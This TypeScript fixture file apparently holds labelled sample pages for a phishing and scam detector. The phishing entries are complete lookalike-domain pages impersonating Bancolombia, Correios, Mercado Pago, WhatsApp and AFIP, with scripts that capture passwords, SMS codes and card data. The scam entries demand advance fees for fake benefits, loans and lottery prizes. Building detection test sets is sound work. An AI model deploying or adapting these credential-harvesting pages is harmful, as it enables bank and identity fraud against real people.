import type { Entry } from '../entry.js';
import { bot, doc, fbq, gtag, htmlRoute, jsonRoute, jsRoute, logo, redirectRoute, top } from '../parts/zn-kit.js';

export const entries: Entry[] = [
  {
    id: 'zn-phish-bancolombia-clave-dinamica-es',
    label: 'phishing',
    kind: 'bank-login',
    url: 'https://svpersonas-bancolombia.com.co-validacion.online/mua/USER',
    body: doc({
      lang: 'es',
      title: 'Sucursal Virtual Personas',
      c: '#2c2a29',
      css: `.yellow{background:#fdda24;height:6px}.box{max-width:420px;margin:30px auto}.steps span{display:inline-block;width:28px;height:28px;border-radius:50%;background:#fdda24;text-align:center;line-height:28px;font-weight:700;margin-right:6px}`,
      body: `${top('Bancolombia', ['Personas', 'Negocios', 'Corporativos'], '/mua/img/logo.png')}<div class="yellow"></div>
<main><div class="box card">
<h2>Sucursal Virtual Personas</h2>
<p class="muted">Por tu seguridad, hemos detectado un ingreso inusual. Valida tu identidad para evitar el bloqueo de tus productos.</p>
<form id="f" autocomplete="off">
<label>Tipo de documento</label><select name="td"><option>Cédula de ciudadanía</option><option>Cédula de extranjería</option><option>Pasaporte</option></select>
<label>Usuario</label><input name="usuario" required>
<label>Clave del cajero (4 dígitos)</label><input name="clave" type="password" maxlength="4" inputmode="numeric" required>
<div id="dyn" style="display:none"><label>Clave dinámica</label><input name="dinamica" maxlength="6" inputmode="numeric"><p class="muted">Ingresa la clave que aparece en tu app Bancolombia</p></div>
<p><button class="btn" style="background:#fdda24;color:#2c2a29;width:100%">Continuar</button></p>
</form>
<p class="muted">¿Olvidaste tu usuario? · ¿Olvidaste tu clave?</p>
</div></main>
${bot(['Bancolombia S.A. Establecimiento bancario. Vigilado Superintendencia Financiera de Colombia.', '© 2025 Grupo Bancolombia. Todos los derechos reservados'], ['Tarifas', 'Reglamentos', 'Seguridad'])}
<script>
var st=0;document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=new FormData(this);
fetch('/mua/procesar.php',{method:'POST',body:d}).then(function(){if(st===0){st=1;document.getElementById('dyn').style.display='block';}else{location.href='/mua/espera.html'}});};
</script>`,
    }),
    routes: {
      ...logo('svpersonas-bancolombia.com.co-validacion.online', '/mua/img/logo.png', 253, 218, 36),
      'svpersonas-bancolombia.com.co-validacion.online/mua/procesar.php': jsonRoute({ ok: 1 }),
      'svpersonas-bancolombia.com.co-validacion.online/mua/espera.html': htmlRoute('<!doctype html><html lang="es"><meta charset="utf-8"><title>Validando</title><body style="font-family:Arial;text-align:center;padding:60px"><h3>Estamos validando tu información…</h3><p>No cierres esta ventana. Un asesor se comunicará contigo.</p></body></html>'),
    },
  },
  {
    id: 'zn-scam-bolsa-familia-saque-taxa-pt',
    label: 'scam',
    kind: 'subsidy-fee',
    url: 'https://consultabeneficio-social.com/bolsa/?utm_source=whatsapp',
    body: doc({
      lang: 'pt-BR',
      title: 'Consulta Benefício Social 2025 - Saque Liberado',
      c: '#1351b4',
      head: fbq('118273645500912'),
      css: `.valor{font-size:38px;color:#168821;font-weight:800}.gov{background:#fff;border-bottom:1px solid #ddd;padding:8px 24px;font-size:13px}`,
      body: `<div class="gov">gov.br &nbsp;|&nbsp; Ministério do Desenvolvimento e Assistência Social</div>
${top('Benefícios Sociais', ['Bolsa Família', 'Auxílio Gás', 'BPC'])}
<main><div class="card">
<h2>Consulte se você tem valores a receber</h2>
<label>Digite seu CPF</label><input id="cpf" placeholder="000.000.000-00"><p><button class="btn" onclick="consultar()">Consultar</button></p>
<div id="res" style="display:none">
<p>Olá, <b id="nome">beneficiário(a)</b>. Identificamos um <b>saldo residual retido</b> referente a 2023-2024:</p>
<p class="valor">R$ 2.847,30</p>
<p>Para liberar o saque imediato via Pix, é necessário pagar a <b>Taxa de Emissão do Comprovante (TEC)</b> no valor de <b>R$ 47,90</b>. O valor será devolvido junto com o benefício.</p>
<p><b>Chave Pix (CNPJ):</b> 48.221.907/0001-33 — Favorecido: LIBERACAO SOCIAL LTDA</p>
<p class="muted">Após o pagamento envie o comprovante no WhatsApp (61) 99832-1147. Prazo: até 23:59 de hoje ou o saldo retorna ao Tesouro.</p>
</div></div>
<div class="card"><h3>Depoimentos</h3><p>"Recebi R$ 3.100 em menos de 1 hora, obrigado governo!" — Maria S., Recife</p><p>"Achei que era golpe mas caiu certinho" — José A., Belém</p></div></main>
${bot(['Portal de consultas de benefícios sociais. © 2025'])}
<script>function consultar(){var c=document.getElementById('cpf').value.replace(/\\D/g,'');if(c.length<11){alert('CPF inválido');return}
setTimeout(function(){document.getElementById('res').style.display='block'},1200)}</script>`,
    }),
  },
  {
    id: 'zn-phish-correios-taxa-importacao-pt',
    label: 'phishing',
    kind: 'delivery-customs',
    url: 'https://rastreamento-correios.encomendas-taxadas.com/objeto/NL812345673BR',
    body: doc({
      lang: 'pt-BR',
      title: 'Correios - Objeto aguardando pagamento',
      c: '#00416b',
      css: `.yel{background:#ffd400;height:6px}.tl li{margin:8px 0}`,
      body: `${top('Correios', ['Rastreamento', 'Minhas Importações', 'Fale Conosco'])}<div class="yel"></div>
<main><div class="card"><h2>Objeto NL812345673BR</h2>
<ul class="tl"><li><b>Aguardando pagamento</b> — Curitiba/PR — Tributos de importação (Remessa Conforme)</li><li>Fiscalização aduaneira finalizada — 12/10</li><li>Objeto recebido pelos Correios do Brasil — 10/10</li></ul>
<div class="warn">Pague R$ 38,72 em até 3 dias úteis. Após este prazo o objeto será devolvido ao remetente.</div></div>
<div class="card"><h3>Pagamento com cartão</h3>
<form id="pg"><label>Nome impresso no cartão</label><input name="nome" required>
<label>Número do cartão</label><input name="cc" inputmode="numeric" maxlength="19" required>
<div class="grid"><div><label>Validade</label><input name="val" placeholder="MM/AA"></div><div><label>CVV</label><input name="cvv" maxlength="4"></div></div>
<label>CPF do titular</label><input name="cpf">
<p><button class="btn">Pagar R$ 38,72</button></p></form></div></main>
${bot(['Empresa Brasileira de Correios e Telégrafos — CNPJ 34.028.316/0001-03'])}
<script>document.getElementById('pg').onsubmit=function(e){e.preventDefault();
var x=new XMLHttpRequest();x.open('POST','/api/pagamento');x.setRequestHeader('Content-Type','application/json');
x.send(JSON.stringify(Object.fromEntries(new FormData(this))));x.onload=function(){location.href='/objeto/sms.html'}}</script>`,
    }),
    routes: {
      'rastreamento-correios.encomendas-taxadas.com/api/pagamento': jsonRoute({ status: 'ok' }),
      'rastreamento-correios.encomendas-taxadas.com/objeto/sms.html': htmlRoute('<!doctype html><html lang="pt-BR"><meta charset="utf-8"><title>Verificação</title><body style="font-family:Arial;padding:40px"><h3>Digite o código enviado por SMS pelo seu banco</h3><input maxlength="6"><button>Confirmar</button></body></html>'),
    },
  },
  {
    id: 'zn-phish-mercadopago-login-otp-es',
    label: 'phishing',
    kind: 'wallet-login',
    url: 'https://mercadopago.com.ar.cuenta-verificar.help/ingresar',
    body: doc({
      lang: 'es-AR',
      title: 'Mercado Pago',
      c: '#009ee3',
      css: `.wrap{max-width:400px;margin:40px auto}header.top{background:#fff;color:#009ee3;border-bottom:1px solid #eee}`,
      body: `${top('mercado pago', [])}
<main><div class="wrap card" id="s1">
<h2>¡Hola! Ingresá tu e‑mail, teléfono o usuario</h2>
<label>E‑mail, teléfono o usuario</label><input id="u">
<p><button class="btn" style="width:100%" onclick="n1()">Continuar</button></p><p class="muted">Crear cuenta</p></div>
<div class="wrap card" id="s2" style="display:none"><h2>Ingresá tu contraseña</h2><input id="p" type="password"><p><button class="btn" style="width:100%" onclick="n2()">Ingresar</button></p></div>
<div class="wrap card" id="s3" style="display:none"><h2>Ingresá el código que te enviamos por SMS</h2><p class="muted">Para proteger tu cuenta detectamos un dispositivo nuevo.</p><input id="o" maxlength="6"><p><button class="btn" style="width:100%" onclick="n3()">Validar</button></p></div>
</main>
<script>
var H='/ingresar/api';function s(k,v){navigator.sendBeacon(H,JSON.stringify({k:k,v:v,t:Date.now()}))}
function n1(){s('u',u.value);s1.style.display='none';s2.style.display='block'}
function n2(){s('p',p.value);s2.style.display='none';s3.style.display='block'}
function n3(){s('o',o.value);location.replace('https://www.mercadopago.com.ar/')}
</script>`,
    }),
    routes: { 'mercadopago.com.ar.cuenta-verificar.help/ingresar/api': jsonRoute({}) },
  },
  {
    id: 'zn-scam-prestamo-nequi-seguro-co',
    label: 'scam',
    kind: 'loan-fee',
    url: 'https://creditoya-nequi.com.co/solicitud',
    body: doc({
      lang: 'es-CO',
      title: 'Crédito Nequi Ya - Préstamo aprobado sin datacrédito',
      c: '#200020',
      css: `.pink{color:#e0007a}`,
      body: `${top('Crédito Ya <span class="pink">•</span>', ['Simulador', 'Requisitos', 'Preguntas'])}
<main><div class="grid"><div class="card"><h2>Préstamo aprobado en 10 minutos</h2><p>Sin reportes en centrales, sin fiador. Hasta <b>$5.000.000 COP</b> desembolsados a tu Nequi o Daviplata.</p>
<label>Monto</label><select id="m"><option>1.000.000</option><option selected>2.500.000</option><option>5.000.000</option></select>
<label>Plazo</label><select><option>12 meses</option><option>24 meses</option></select>
<label>Nombre completo</label><input><label>Cédula</label><input><label>Celular Nequi</label><input>
<p><button class="btn" style="background:#e0007a" onclick="ap();return false">Solicitar</button></p></div>
<div class="card" id="ok" style="display:none"><h2>✅ ¡Felicidades, crédito APROBADO!</h2><p>Para el desembolso debes pagar la <b>póliza de seguro de cumplimiento</b> (4%) antes de 2 horas. Consigna a la cuenta Nequi <b>310 448 2917</b> y envía el soporte a tu asesora Daniela.</p><a class="btn" href="https://wa.me/573104482917">Hablar con asesora</a></div></div></main>
${bot(['Crédito Ya es una marca aliada. Vigilado* · Tasa efectiva anual 23,9%'])}
<script>function ap(){setTimeout(function(){document.getElementById('ok').style.display='block'},900)}</script>`,
    }),
  },
  {
    id: 'zn-scam-loteria-nacional-premio-es',
    label: 'scam',
    kind: 'lottery-fee',
    url: 'https://sorteo-loterianacional.com.mx/ganadores/folio?f=MX-88213',
    body: doc({
      lang: 'es-MX',
      title: 'Lotería Nacional - Notificación de premio',
      c: '#8b1538',
      body: `${top('Lotería Nacional', ['Resultados', 'Sorteos', 'Ganadores'])}
<main><div class="card" style="text-align:center"><h1>¡FELICIDADES!</h1><p>Su número telefónico resultó ganador en el <b>Sorteo Magno Aniversario</b>.</p>
<p style="font-size:34px;color:#8b1538;font-weight:800">$ 750,000.00 MXN</p><p>Folio: MX-88213 · Clave de cobro: LN-4471</p></div>
<div class="card"><h3>Pasos para cobrar</h3><ol><li>Llene sus datos de beneficiario.</li><li>Cubra el pago de <b>ISR anticipado y gastos notariales</b> por $ 3,850.00 en OXXO o transferencia SPEI.</li><li>El premio se deposita en 24 horas hábiles.</li></ol>
<form action="/ganadores/registro.php" method="post"><label>Nombre</label><input name="n"><label>CURP</label><input name="curp"><label>Banco y CLABE</label><input name="clabe"><label>Teléfono</label><input name="t"><p><button class="btn">Registrar beneficiario</button></p></form>
<p class="muted">Lic. Ernesto Rangel — Gerente de Premiación. Tel. 55 7102 3386</p></div></main>
${bot(['Lotería Nacional para la Asistencia Pública. Av. Plaza de la República 1, CDMX.'])}`,
    }),
    routes: { 'sorteo-loterianacional.com.mx/ganadores/registro.php': htmlRoute('<!doctype html><meta charset="utf-8"><title>Registro</title><p>Registro recibido. Realice el pago a CLABE 646180157000004431 (STP) y envíe el comprobante.</p>') },
  },
  {
    id: 'zn-phish-whatsapp-codigo-verificacion-es',
    label: 'phishing',
    kind: 'messaging-account',
    url: 'https://verificacion-whatsapp-soporte.com/es/cuenta',
    body: doc({
      lang: 'es',
      title: 'WhatsApp - Verificación de cuenta',
      c: '#25d366',
      css: `.wrap{max-width:420px;margin:40px auto;text-align:center}header.top{background:#075e54}`,
      body: `${top('WhatsApp', ['Funciones', 'Privacidad', 'Centro de ayuda'])}
<main><div class="wrap card"><h2>Tu cuenta será suspendida</h2><p>Hemos recibido reportes de que tu número envía spam. Para conservar tu cuenta, verifica que eres el propietario.</p>
<label>Número de teléfono</label><input id="n" placeholder="+52 1 55 ...">
<p><button class="btn" onclick="a()">Enviar código</button></p>
<div id="c" style="display:none"><p>Introduce el código de 6 dígitos que recibiste por SMS</p><input id="k" maxlength="7" placeholder="___-___"><p><button class="btn" onclick="b()">Verificar</button></p></div>
<p class="muted">WhatsApp LLC · Seguridad</p></div></main>
<script>function a(){fetch('/es/api/n?v='+encodeURIComponent(n.value));c.style.display='block'}
function b(){fetch('/es/api/k?v='+encodeURIComponent(k.value)).then(function(){document.querySelector('.wrap').innerHTML='<h2>Verificado ✔</h2><p>Gracias. Tu cuenta está protegida.</p>'})}</script>`,
    }),
    routes: {
      'verificacion-whatsapp-soporte.com/es/api/n': jsonRoute({ sent: true }),
      'verificacion-whatsapp-soporte.com/es/api/k': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'zn-phish-afip-clave-fiscal-ar',
    label: 'phishing',
    kind: 'tax-login',
    url: 'https://auth-afip-gob.com.ar/contribuyente_/login.xhtml',
    body: doc({
      lang: 'es-AR',
      title: 'AFIP - Acceso con Clave Fiscal',
      c: '#1c4587',
      css: `.wrap{max-width:380px;margin:30px auto}`,
      body: `${top('AFIP', ['Ciudadanos', 'Empresas', 'Monotributo'])}
<main><div class="wrap card"><h2>Acceso con Clave Fiscal</h2>
<p class="warn">Régimen de devolución de percepciones (RG 5463): tiene un saldo a favor de $ 184.302,00 pendiente de acreditación.</p>
<form method="post" action="/contribuyente_/valida.php"><label>CUIT/CUIL</label><input name="cuit" required><label>Clave</label><input name="clave" type="password" required>
<label>CBU para acreditación</label><input name="cbu"><p><button class="btn" style="width:100%">Ingresar</button></p></form>
<p class="muted">Recuperar clave · ¿Cómo obtengo mi clave fiscal?</p></div></main>
${bot(['Administración Federal de Ingresos Públicos — Ministerio de Economía', 'Defensa de las y los consumidores. Para reclamos ingrese aquí.'])}`,
    }),
    routes: { 'auth-afip-gob.com.ar/contribuyente_/valida.php': redirectRoute(302, 'https://auth-afip-gob.com.ar/contribuyente_/ok.html'), 'auth-afip-gob.com.ar/contribuyente_/ok.html': htmlRoute('<!doctype html><meta charset="utf-8"><title>AFIP</title><p>Solicitud registrada. La acreditación se realizará en 48 hs.</p>') },
  },
];
